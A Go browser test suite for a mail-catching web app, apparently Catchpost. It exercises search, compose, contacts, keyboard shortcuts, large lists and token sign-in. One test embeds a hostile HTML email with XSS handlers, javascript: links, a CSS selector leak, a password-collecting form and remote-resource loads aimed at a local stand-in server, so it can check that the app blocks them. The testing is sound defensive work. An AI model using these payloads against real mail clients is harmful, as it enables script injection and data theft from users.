package web_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/emersion/go-imap/v2/imapclient"

	"github.com/catchpost/catchpost/internal/program"
)

type listed struct {
	Messages []struct {
		ID, Subject string
		Seen        bool
	}
	Total int
}

func (w *world) list(query string) listed {
	w.t.Helper()
	var l listed
	w.api("GET", "messages?"+query, nil, &l)
	return l
}

func js(s string) string {
	b, _ := json.Marshal(s) // a string marshals
	return string(b)
}

// fillIn types into a field as a person would.
func (p *tab) fillIn(selector, text string) {
	p.t.Helper()
	p.until(fmt.Sprintf(`document.querySelector(%s) !== null`, js(selector)))
	eval[bool](p, fmt.Sprintf(`document.querySelector(%s).focus() === undefined`, js(selector)))
	p.press(text)
}

// empty selects what a field holds and deletes it.
func (p *tab) empty(selector string) {
	p.t.Helper()
	p.until(fmt.Sprintf(`document.querySelector(%s) !== null`, js(selector)))
	eval[bool](p, fmt.Sprintf(`(() => { const el = document.querySelector(%s); el.focus(); el.select(); return true; })()`, js(selector)))
	p.press(kb.Backspace)
}

// button clicks the button or link with these words or this name.
func (p *tab) button(words string) {
	p.t.Helper()
	find := fmt.Sprintf(`[...document.querySelectorAll("button,a,[role=menuitem]")].find(b => b.offsetParent !== null && !b.disabled && (b.innerText.trim() === %s || b.getAttribute("aria-label") === %[1]s))`, js(words))
	p.until(find + " !== undefined")
	eval[bool](p, find+`.click() === undefined`)
}

func TestReceivesWhileLooking(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	p := b.tab(1280, 800, false)
	p.open(w.url + "/")
	p.sees("Waiting for mail")
	p.until(there(".pulse.live"))
	w.send("hello@shop.test", "anna@x.test", plain("Shop <hello@shop.test>", "anna@x.test", "First light", "It works."))
	p.until(`document.querySelector(".row.unread .row-subject")?.innerText.startsWith("First light")`)
	w.send("hello@shop.test", "anna@x.test", plain("Shop <hello@shop.test>", "anna@x.test", "Second light", "It works again."))
	p.until(`document.querySelectorAll(".row").length === 2 && document.querySelector(".row-subject").innerText.startsWith("Second light")`)
	p.sees("2 messages")
	p.click(".row:last-child .row-subject")
	p.sees("It works.")
	p.until(there(".row.active:not(.unread)"))
	if l := w.list("subject=First"); !l.Messages[0].Seen {
		t.Error("opening a message did not mark it as read")
	}
	w.api("DELETE", "messages?subject=Second", nil, nil)
	p.until(`document.querySelectorAll(".row").length === 1`)
	p.clean()
}

func TestSearch(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	fill(w)
	p := b.tab(1280, 800, false)
	p.open(w.url + "/#/default")
	p.until(`document.querySelectorAll(".row").length === 11`)
	p.press("/")
	p.until(`document.activeElement?.matches(".search input")`)
	p.empty(".search input")
	p.press("attachments.ex")
	p.until(`[...document.querySelectorAll(".offers [role=option]")].some(o => o.innerText === "attachments.exists:")`)
	p.press(kb.ArrowDown + kb.Enter)
	p.press("true" + kb.Enter)
	p.until(`document.querySelectorAll(".row").length === 2`)
	p.sees("2 found")
	if hash := eval[string](p, "location.hash"); !strings.Contains(hash, "q=") {
		t.Errorf("the search is no deep link: %s", hash)
	}
	p.press(kb.Escape)
	p.press(kb.Escape)
	p.until(`document.querySelectorAll(".row").length === 11`)
	p.open(w.url + "/#/default?q=" + "from.contains%3Anoam")
	p.until(`document.querySelectorAll(".row").length === 1`)
	p.open(w.url + "/#/default?q=zzzznothing")
	p.sees("Nothing matches")
	p.clean()
}

func TestEveryTab(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	fill(w)
	id := w.list("subject.prefix=Welcome").Messages[0].ID
	p := b.tab(1280, 900, false)
	p.open(w.url + "/#/default/" + id)
	p.until(there(".preview iframe"))
	for _, step := range []struct{ tab, sees string }{
		{"text", "One thing is left"}, {"finds", "482913"}, {"headers", "X-Mailer"}, {"structure", "multipart/alternative"},
		{"source", "--outer"}, {"envelope", "<bounce@shop.test>"}, {"transcript", "RCPT TO:<audit@shop.test>"}, {"assert", `"within": "10s"`},
	} {
		p.click("#tab-" + step.tab)
		p.until(fmt.Sprintf(`document.querySelector("#tab-panel").innerText.includes(%s)`, js(step.sees)))
		if hash := eval[string](p, "location.hash"); !strings.Contains(hash, "tab="+step.tab) {
			t.Errorf("%s: no deep link: %s", step.tab, hash)
		}
	}
	p.button("Try it now")
	p.until(there(".verdict.good"))
	p.click("#tab-text")
	p.until(`document.querySelectorAll(".attachment").length === 3`)
	p.click(".attachment:nth-child(3) .attachment-open")
	p.sees("First order call")
	p.press(kb.Escape)
	p.clean()
}

// TestHostileMail opens a message that tries what mail can try: nothing of it
// runs, loads or leaves.
func TestHostileMail(t *testing.T) {
	b := newBrowser(t)
	var called atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called.Add(1) }))
	defer evil.Close()
	w := newWorld(t, nil)
	hostile := strings.ReplaceAll(`<html><head><title>x</title><base href="EVIL/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">
<link rel="stylesheet" href="EVIL/link.css"><style>@import url(EVIL/import.css); body { background: url(EVIL/bg.png) } a[href^="h"] { background: url("EVIL/leak") } @font-face { font-family: x; src: url(EVIL/font) } p { font-family: x }</style></head>
<body onload="top.hacked=1" background="EVIL/background.png"><script>top.hacked = 1; fetch("EVIL/script")</script><img src="EVIL/pixel.gif" onerror="top.hacked=1"><img srcset="EVIL/set.gif 1x">
<svg onload="top.hacked=1"><image href="EVIL/svg.png"/></svg><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed"><video poster="EVIL/poster" src="EVIL/video" autoplay></video>
<form action="EVIL/form" id="f"><input autofocus onfocus="top.hacked=1" name="password"><button>Go</button></form><a id="j" href="javascript:top.hacked=1">click</a><a href="data:text/html,<script>top.hacked=1</script>">data</a>
<p>VISIBLE</p>`+strings.Repeat("<table><tr><td>", 1200)+"deep"+strings.Repeat("<tr><td>x</td></tr>", 3000)+`</body></html>`, "EVIL", evil.URL)
	w.send("a@x.test", "b@x.test", "From: <img src=x onerror=top.hacked=1> <a@x.test>\nTo: b@x.test\nSubject: <script>top.hacked=1</script>\nMessage-ID: <h@x.test>\nContent-Type: text/html\n\n"+hostile+"\n")
	id := w.list("").Messages[0].ID
	p := b.tab(1280, 900, false)
	for _, tab := range []string{"html", "source", "headers", "finds", "text", "structure"} {
		p.open(w.url + "/#/default/" + id + "?tab=" + tab)
		p.until(there("#tab-panel"))
		p.until(`document.title.includes("Catchpost")`)
		eval[bool](p, `new Promise(r => setTimeout(r, 500, true))`)
		if eval[bool](p, "window.hacked === 1") {
			t.Fatalf("%s: script of the mail ran", tab)
		}
	}
	// The preview by itself is as dead as in its frame.
	p.open(w.url + "/v1/messages/" + id + "/preview")
	for range 3 { // frames pass; no timer runs where scripts may not
		if _, err := chromedp.Run(p.ctx, chromedp.CaptureScreenshot()); err != nil {
			t.Fatal(err)
		}
	}
	if !eval[bool](p, `document.body.innerText.includes("VISIBLE")`) {
		t.Error("the preview shows nothing")
	}
	if n := called.Load(); n > 0 {
		t.Errorf("the mail reached its server %d times", n)
	}
	for _, request := range p.requests {
		if !strings.HasPrefix(request, w.url) && !strings.HasPrefix(request, "data:") && !strings.HasPrefix(request, "chrome-error:") {
			t.Errorf("a request left: %s", request)
		}
	}
}

func TestCompose(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	w.api("POST", "contacts", map[string]any{"name": "Anna Lestari", "addresses": []string{"anna@x.test"}}, nil)
	file := filepath.Join(t.TempDir(), "notes.txt")
	if err := os.WriteFile(file, []byte("attached words"), 0o600); err != nil {
		t.Fatal(err)
	}
	p := b.tab(1280, 900, false)
	p.open(w.url + "/#/default/compose")
	p.until(there("#c-to"))
	p.empty("#c-from")
	p.fillIn("#c-from", "budi@x.test")
	p.fillIn("#c-to", "lest")
	p.until(`[...document.querySelectorAll(".offers [role=option]")].some(o => o.innerText.includes("anna@x.test"))`)
	p.press(kb.ArrowDown + kb.Enter)
	p.until(there(".token"))
	p.fillIn("#c-subject", "Halo dari halaman")
	p.fillIn(".compose-body textarea", "Isi surat.")
	p.run(chromedp.SetUploadFiles(chromedp.CSS("input[type=file]"), []string{file}))
	p.until(there(".compose-files .attachment"))
	p.button("Send")
	p.until(`location.hash.startsWith("#/default/0")`)
	p.sees("Halo dari halaman")
	l := w.list("subject=Halo%20dari&from=budi@x.test&to=anna@x.test&attachments.name=notes.txt&attachments.text=attached&origin=api")
	if l.Total != 1 {
		t.Fatalf("the API finds %d such messages", l.Total)
	}
	// By IMAP it is in the receiver's INBOX, and in the sender's Sent.
	for _, at := range [][2]string{{"anna@x.test", "INBOX"}, {"budi@x.test", "Sent"}} {
		c, err := imapclient.DialInsecure(w.Addr("imap"), nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Login(at[0], "any").Wait(); err != nil {
			t.Fatal(err)
		}
		box, err := c.Select(at[1], nil).Wait()
		if err != nil || box.NumMessages != 1 {
			t.Errorf("%s of %s: %+v %v", at[1], at[0], box, err)
		}
		_ = c.Close()
	}
	p.press("r")
	p.until(`document.querySelector("#c-subject")?.value === "Re: Halo dari halaman"`)
	p.button("Save draft")
	p.until(`location.hash.includes("/Drafts") && document.querySelector(".row-subject")?.innerText.includes("Re: Halo")`)
	p.click(".row-subject")
	p.button("Edit")
	p.until(`document.querySelector("#c-subject")?.value === "Re: Halo dari halaman"`)
	p.button("Send")
	p.until(`location.hash.startsWith("#/default/0")`)
	p.sees("Re: Halo dari halaman")
	p.open(w.url + "/#/default/mail/anna@x.test/Drafts")
	p.sees("Nothing here")
	p.clean()
}

func TestContacts(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	cards := filepath.Join(t.TempDir(), "a.vcf")
	text := "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Citra \r\n Dewi\\, Dr.\r\nitem1.EMAIL;TYPE=work:citra@x.test\r\nEMAIL:c2@x.test\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:M=C3=BCller;J=C3=BCrgen\r\nFN;ENCODING=QUOTED-PRINTABLE:J=C3=BCrgen M=C3=BCller\r\nEMAIL:jm@x.test\r\nEND:VCARD\r\n"
	if err := os.WriteFile(cards, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	p := b.tab(1280, 900, false)
	p.open(w.url + "/#/default/contacts")
	p.sees("No contacts yet")
	p.run(chromedp.SetUploadFiles(chromedp.CSS("input[type=file]"), []string{cards}))
	p.until(`document.querySelectorAll(".people-list li").length === 2`)
	p.sees("Citra Dewi, Dr.")
	p.sees("Jürgen Müller")
	p.button("New contact")
	p.fillIn("input[name=name]", "Budi")
	p.fillIn("textarea[name=addresses]", "budi@x.test")
	p.button("Save")
	p.until(`document.querySelectorAll(".people-list li").length === 3`)
	var got struct {
		Contacts []struct{ Name string }
	}
	w.api("GET", "contacts?q=budi", nil, &got)
	if len(got.Contacts) != 1 {
		t.Errorf("the API finds %v", got)
	}
	p.button("Delete")
	p.click("dialog .danger")
	p.until(`document.querySelectorAll(".people-list li").length === 2`)
	p.clean()
}

// TestTwoBrowsers: two people on one account see what the other does.
func TestTwoBrowsers(t *testing.T) {
	w := newWorld(t, nil)
	w.send("a@x.test", "anna@x.test", plain("a@x.test", "anna@x.test", "Shared", "For both."))
	place := w.url + "/#/default/mail/anna@x.test/INBOX"
	one, two := newBrowser(t).tab(1280, 800, false), newBrowser(t).tab(1280, 800, false)
	for _, p := range []*tab{one, two} {
		p.open(place)
		p.until(there(".row.unread"))
	}
	one.click(".row-subject")
	two.until(there(".row:not(.unread)"))
	two.press("j")
	two.press("s")
	one.until(there(".row-flag.on"))
	two.press("#")
	one.until(`document.querySelectorAll(".row").length === 0`)
	if n := w.list("").Total; n != 1 {
		t.Errorf("the evidence has %d messages", n)
	}
}

// TestHundredThousand scrolls a list of 100,000 messages with few rows in the document.
func TestHundredThousand(t *testing.T) {
	b := newBrowser(t)
	const n = 100_000
	w := newWorld(t, nil)
	fillMany(t, w, n)
	p := b.tab(1280, 800, false)
	p.open(w.url + "/#/default")
	p.sees("100,000 messages")
	p.until(`document.querySelector(".row-subject")?.innerText.includes("number 100000")`)
	// The row that stands in the middle of the list.
	const middle = `[...document.querySelectorAll(".row:not(.ghost)")].find(r => { const v = document.querySelector(".virtual").getBoundingClientRect(), b = r.getBoundingClientRect(), y = v.y + v.height / 2; return b.top <= y && b.bottom > y; })`
	for _, to := range []float64{0.5, 1, 0.25, 0} {
		eval[bool](p, fmt.Sprintf(`(() => { const v = document.querySelector(".virtual"); v.scrollTop = (v.scrollHeight - v.clientHeight) * %f; return true; })()`, to))
		p.until(middle + ` !== undefined && document.querySelectorAll(".row.ghost").length === 0`)
		if rows := eval[int](p, `document.querySelectorAll(".row").length`); rows > 200 {
			t.Errorf("%d rows in the document", rows)
		}
		at := eval[string](p, `(row => row.getAttribute("aria-posinset") + " " + row.querySelector(".row-subject").innerText)(`+middle+`)`)
		var pos, number int
		if _, err := fmt.Sscanf(strings.ReplaceAll(at, "number ", ""), "%d %d", &pos, &number); err != nil || pos+number != n+1 {
			t.Errorf("row %q: not the message of its place", at)
		}
	}
	w.send("a@x.test", "b@x.test", plain("a@x.test", "b@x.test", "One more", "x"))
	p.sees("100,001 messages")
	p.until(`document.querySelector(".row-subject").innerText.includes("One more")`)
	p.clean()
}

// TestKeyboardOnly does a round of work without a mouse.
func TestKeyboardOnly(t *testing.T) {
	b := newBrowser(t)
	w := newWorld(t, nil)
	fill(w)
	p := b.tab(1280, 900, false)
	p.open(w.url + "/#/default")
	p.until(`document.querySelectorAll(".row").length === 11`)
	p.press("j")
	p.until(there(".row.cursor"))
	p.press("o")
	p.until(there(".message h1"))
	first := eval[string](p, `document.querySelector(".message h1").innerText`)
	p.press("j")
	p.until(`document.querySelector(".message h1").innerText !== ` + js(first))
	p.press("k")
	p.until(`document.querySelector(".message h1").innerText === ` + js(first))
	p.press("4")
	p.until(`location.hash.includes("tab=headers")`)
	p.press("u")
	p.until(`!document.querySelector(".message h1")`)
	p.press("x")
	p.until(there(".selection"))
	p.press("s")
	p.until(there(".row-flag.on"))
	p.press(kb.Escape)
	p.until(`!document.querySelector(".selection")`)
	p.press("?")
	p.until(there("dialog[open] .help"))
	p.press(kb.Escape)
	p.until(`!document.querySelector("dialog[open]")`)
	p.press("g")
	p.press("s")
	p.until(`location.hash.endsWith("/sessions")`)
	p.until(there(".table"))
	p.press("g")
	p.press("i")
	p.until(there(".row"))
	p.press("j")
	p.until(there(".row.cursor"))
	p.press("#")
	p.until(`document.querySelectorAll(".row").length === 10`)
	p.press("c")
	p.until(`document.activeElement?.id === "c-to"`)
	p.press("citra@x.test," + kb.Tab + kb.Tab + "Keys" + kb.Tab + "No mouse.")
	p.run(chromedp.KeyEvent(kb.Enter, chromedp.KeyModifiers(2)))
	p.until(`location.hash.startsWith("#/default/0")`)
	if l := w.list("to=citra@x.test&subject=Keys"); l.Total != 1 {
		t.Errorf("sent by keyboard: %d", l.Total)
	}
	p.clean()
}

// TestSmallAndDark: at 360 px nothing is wider than the screen, in either colours.
func TestSmallAndDark(t *testing.T) {
	b := newBrowser(t)
	w := newStage(t, "")
	p := b.tab(360, 740, true)
	p.prefers("prefers-color-scheme", "dark")
	for _, v := range w.views() {
		p.open(w.at(v))
		p.until(v.ready)
		if wide := eval[int](p, `document.documentElement.scrollWidth`); wide > 360 {
			t.Errorf("%s is %d px wide", v.name, wide)
		}
	}
	if light := eval[float64](p, `(() => { const [r, g, b] = getComputedStyle(document.body).backgroundColor.match(/\d+/g).map(Number); return (r + g + b) / 765; })()`); light > 0.3 {
		t.Errorf("dark is %f light", light)
	}
	p.open(w.url + "/#/default")
	p.until(there(".row"))
	p.click(".topbar button")
	p.until(there(".shell.open .sidebar"))
	p.button("Contacts")
	p.until(`location.hash.endsWith("/contacts") && !document.querySelector(".shell.open")`)
	p.clean()
}

func TestSignIn(t *testing.T) {
	b := newBrowser(t)
	const token = "admin_token_1234567890"
	w := newWorld(t, func(o *program.Options) { o.Login.AdminToken = token; o.HTTP.BasePath = "/mail/" })
	var box struct{ Token string }
	w.base = "/mail"
	w.api("POST", "sandboxes", map[string]any{"name": "run-1"}, &box)
	w.send("a@x.test", "b@run-1.catchpost.test", plain("a@x.test", "b@run-1.catchpost.test", "Behind a door", "x"))
	p := b.tab(1000, 800, false)
	p.open(w.url + "/mail/")
	p.until(there("input[name=token]"))
	p.fillIn("input[name=token]", "wrong_token"+kb.Enter)
	p.sees("No sandbox has this token")
	p.empty("input[name=token]")
	p.fillIn("input[name=token]", token+kb.Enter)
	p.until(there(".sidebar"))
	p.button("Sign out")
	p.until(there("input[name=token]"))
	p.open(w.url + "/mail/#token=" + box.Token)
	p.sees("Behind a door")
	p.until(there(".pulse.live"))
	w.send("a@x.test", "b@run-1.catchpost.test", plain("a@x.test", "b@run-1.catchpost.test", "While looking", "x"))
	p.sees("While looking")
	if at := eval[string](p, "location.href"); strings.Contains(at, box.Token) {
		t.Errorf("the token stays in the address: %s", at)
	}
	if cookies := eval[string](p, "document.cookie"); cookies != "" {
		t.Errorf("a script can read the cookie: %s", cookies)
	}
	if others := eval[bool](p, `document.body.innerText.includes("default")`); others {
		t.Error("a sandbox's token shows another sandbox")
	}
}
